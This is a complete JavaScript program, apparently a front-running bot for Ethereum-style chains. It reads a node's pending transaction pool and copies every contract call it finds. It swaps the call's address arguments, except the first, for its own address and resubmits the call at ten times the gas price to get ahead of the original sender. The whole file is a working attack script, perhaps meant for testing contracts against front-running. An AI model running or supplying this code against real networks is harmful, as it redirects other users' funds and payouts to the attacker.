// Front-runs, in a process of its own: sends every call that it sees in the pool of a node to a contract that is there,
// with itself in place of all contracts but the first, for a higher fee. Says whenever it looked. Arguments: URL, private
// key.
import { setTimeout } from "node:timers/promises";

import { JsonRpcProvider, NonceManager, Wallet } from "ethers";

const [url, key] = process.argv.slice(2);
const provider = new JsonRpcProvider(url, undefined, { pollingInterval: 50, cacheTimeout: -1 });
const wallet = new NonceManager(new Wallet(key, provider));
const self = (await wallet.getAddress()).slice(2).toLowerCase();
const seen = new Set();
for (;;) {
  const { pending } = await provider.send("txpool_content", []);
  for (const [from, transactions] of Object.entries(pending)) {
    if (from.slice(2).toLowerCase() === self) continue;
    for (const { hash, to, input, gasPrice, maxFeePerGas } of Object.values(transactions)) {
      if (to === null || seen.has(hash) || (await provider.getCode(to)) === "0x") continue;
      seen.add(hash);
      const words = input.slice(10).match(/.{64}/g) ?? [];
      const isAddress = (word) => /^0{24}[0-9a-f]{6}/.test(word) && !/^0{40}/.test(word);
      const places = [...words.keys()].filter((index) => isAddress(words[index]));
      for (const index of places.slice(places.length > 1 ? 1 : 0))
        words[index] = self.padStart(64, "0");
      const price = BigInt(maxFeePerGas ?? gasPrice) * 10n;
      const call = { to, data: input.slice(0, 10) + words.join(""), gasLimit: 500_000n };
      await wallet
        .sendTransaction({ ...call, type: 0, gasPrice: price })
        .catch(() => wallet.reset());
    }
  }
  process.stdout.write("looked\n");
  await setTimeout(20);
}
